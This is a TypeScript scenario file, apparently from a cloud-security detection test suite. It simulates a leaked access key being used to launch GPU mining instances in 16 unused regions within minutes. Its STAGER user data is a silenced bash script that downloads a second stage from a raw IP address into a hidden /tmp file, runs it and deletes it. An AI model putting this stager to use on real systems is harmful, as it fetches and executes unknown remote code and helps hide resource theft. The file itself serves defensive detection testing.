/**
 * scenarios/leaked-key-every-region: an access key leaked in a public repository is used by a
 * script that starts GPU instances in all 16 regions the account never uses, within nine minutes.
 * The user data only fetches a second stage from a paste host, so there is no miner string at rest:
 * the fleet must be caught by where it runs, what it is and how it was launched.
 * Run: npx tsx scripts/scenarios/leaked-key-every-region.ts [--ids]
 */
import {
  type AccountSpec,
  buildAccount,
  DEFAULT_REGIONS,
  isMain,
  iso,
  ordinaryCompany,
  type WorkloadSpec,
  writeScenario,
} from "./account-builder.js";

const HOME = "us-east-1";
const ATTACK_START = Date.parse("2026-11-25T02:14:00Z");
/** What each region had capacity for: the script asks for the biggest GPU type, then falls back. */
const GPU_BY_REGION: Record<string, { type: string; count: number }> = {
  "us-east-2": { type: "g4dn.12xlarge", count: 4 },
  "us-west-1": { type: "g4dn.12xlarge", count: 2 },
  "us-west-2": { type: "p3.8xlarge", count: 3 },
  "ca-central-1": { type: "g4dn.12xlarge", count: 2 },
  "sa-east-1": { type: "g4dn.12xlarge", count: 2 },
  "eu-west-1": { type: "p3.8xlarge", count: 2 },
  "eu-west-2": { type: "g4dn.12xlarge", count: 2 },
  "eu-west-3": { type: "g4dn.12xlarge", count: 2 },
  "eu-central-1": { type: "g5.12xlarge", count: 3 },
  "eu-north-1": { type: "g4dn.12xlarge", count: 2 },
  "ap-south-1": { type: "g4dn.12xlarge", count: 2 },
  "ap-northeast-1": { type: "p3.8xlarge", count: 2 },
  "ap-northeast-2": { type: "g4dn.12xlarge", count: 2 },
  "ap-northeast-3": { type: "g4dn.12xlarge", count: 1 },
  "ap-southeast-1": { type: "g5.12xlarge", count: 2 },
  "ap-southeast-2": { type: "g4dn.12xlarge", count: 2 },
};

const STAGER = [
  "#!/bin/bash",
  "exec >/dev/null 2>&1",
  "curl -fsSL http://45.9.148.117/ldr.sh -o /tmp/.x && bash /tmp/.x",
  "rm -f /tmp/.x",
  "",
].join("\n");

function fleet(): WorkloadSpec[] {
  const workloads: WorkloadSpec[] = [];
  const regions = DEFAULT_REGIONS.filter((r) => r !== HOME);
  regions.forEach((region, order) => {
    const plan = GPU_BY_REGION[region];
    if (!plan) return;
    for (let n = 1; n <= plan.count; n++) {
      workloads.push({
        name: `gpu-${region}-${n}`,
        image: `ubuntu-22.04-${region}`,
        region,
        instanceType: plan.type,
        // One region every ~34 seconds, each region's instances a few seconds apart.
        launchTime: iso(ATTACK_START + order * 34_000 + n * 3_000),
        publicIpPrefixes: ["3.8", "18.190", "54.80"],
        userData: STAGER,
        // A GPU miner leaves the CPU nearly idle: one core feeding the GPUs.
        cpu: (_ms, rng) => rng.uniform(2.5, 5.5),
        networkOut: (_ms, rng) => rng.uniform(2e6, 4e6),
        packetBytes: 180,
      });
    }
  });
  return workloads;
}

export const spec: AccountSpec = {
  scenario: "leaked-key-every-region",
  description: "Leaked key: GPU instances in all 16 unused regions within nine minutes, no miner string at rest",
  accountId: "210987654321",
  windowEnd: "2026-11-25T09:00:00.000Z",
  homeRegions: [HOME],
  workloads: [...ordinaryCompany({ region: HOME, prefix: "shop", utcOffsetHours: -5 }), ...fleet()],
};

export const build = () => buildAccount(spec);
if (isMain(import.meta.url)) writeScenario(spec);
